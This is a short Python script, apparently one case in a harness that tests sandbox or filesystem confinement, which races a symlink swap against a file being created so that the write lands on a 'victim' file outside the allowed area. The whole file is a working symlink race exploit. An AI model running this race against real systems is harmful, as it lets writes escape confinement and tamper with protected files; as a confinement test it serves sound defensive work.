"""A file that is being created is replaced by a link to a denied one."""

import contextlib
import os
import threading

from attack import OUTSIDE, WORK, main
from race import until_won

PROMISE = "creation follows no link that appeared after the look"
CONTROL = "the victim outside is written to"
ADVICE = "report it: files are created exclusively"


def swap() -> None:
    while True:
        try:
            os.symlink(f"{OUTSIDE}/victim", f"{WORK}/fresh")
            os.unlink(f"{WORK}/fresh")
        except OSError:
            continue


def attempt() -> bool:
    before = os.stat(f"{WORK}/hide1").st_dev
    threading.Thread(target=swap, daemon=True).start()

    def write() -> bool:
        opened = os.open(f"{WORK}/fresh", os.O_CREAT | os.O_WRONLY)
        try:
            path = os.readlink(f"/proc/self/fd/{opened}")
            return path.endswith("/victim") and os.fstat(opened).st_dev == before
        finally:
            os.close(opened)
            with contextlib.suppress(OSError):
                os.unlink(f"{WORK}/fresh")

    return until_won(write)


main(attempt)
